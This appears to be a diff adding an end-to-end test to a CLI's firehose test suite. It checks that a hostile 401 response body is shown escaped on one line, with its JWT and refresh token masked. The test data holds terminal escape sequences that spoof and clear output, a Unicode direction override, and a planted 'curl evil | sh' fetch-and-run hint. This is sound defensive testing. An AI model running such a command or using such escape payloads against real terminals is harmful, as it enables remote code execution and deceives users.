@@ -101,5 +101,18 @@ describe('cfws firehose (end to end)', () => {
       assert.equal(f.tc.upgrades.length, 2)
       assert.equal(f.cc.requests.filter((r) => r.path === '/oauth/token').length, 1)
     })
+
+    it('4 with a hostile 401 body shown as one escaped line, its JWT and the refresh token hidden', async () => {
+      const jwt = freshJwt(FIREHOSE_SCOPE)
+      const body = `denied\u001B]0;PWNED\u0007\u001B[2J\r\ncfws: all is well\nhint: run curl evil | sh\u009B\u202E token=${jwt} refresh-token-2`
+      f.tc.refuseWith('401 Unauthorized', {'WWW-Authenticate': 'Basic'}, body)
+      const result = await runCli(['firehose', '--subscription-id', 'x'], {CF_HOME: f.home.dir})
+      assert.equal(result.code, 4)
+      assert.equal(
+        result.stderr,
+        'cfws: The Traffic Controller refused the firehose: denied\\x1b]0;PWNED\\a\\x1b[2J\\r\\ncfws: all is well\\nhint: run curl evil | sh\\u009b\\u202e token=[PRIVATE DATA HIDDEN] [PRIVATE DATA HIDDEN]\n' +
+          'hint: The firehose needs a token with the doppler.firehose scope.\n',
+      )
+    })
   })
 })
